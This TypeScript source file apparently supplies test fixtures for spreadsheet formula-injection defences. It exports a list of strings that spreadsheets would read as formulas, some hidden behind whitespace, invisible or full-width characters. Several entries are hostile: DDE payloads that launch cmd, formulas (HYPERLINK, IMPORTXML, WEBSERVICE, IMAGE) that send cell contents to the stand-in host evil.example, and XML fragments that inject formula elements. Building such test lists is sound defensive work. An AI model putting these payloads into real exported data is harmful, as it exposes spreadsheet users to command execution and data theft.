/** Texts that some spreadsheet takes for a formula: by their first character, behind blanks, quotes and invisible ones, full-width. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '=', '+', '-', '@',
  '\t=1', '\r=1', '\n=1', '\r\n=1', '\0=1', ' =1', '   +1', '\u00A0=1', '\u200B=1', '\u200E=1', '\u2060=1', '\uFEFF=1',
  '＝1+1', '＋1', '－1', '＠x', '"=1', "'=1", '" =1"',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', '=WEBSERVICE("http://evil.example")', '=IMAGE("http://evil.example/x.png")',
  '-2+3+cmd|\' /C calc\'!A0', '+1-1;=1+1', '=1+1,"=2"', '=\n1+1', '=A1:A9&"</t></is><f>1+1</f>"', '</t></is></c><c r="B2"><f>1+1</f></c>',
];
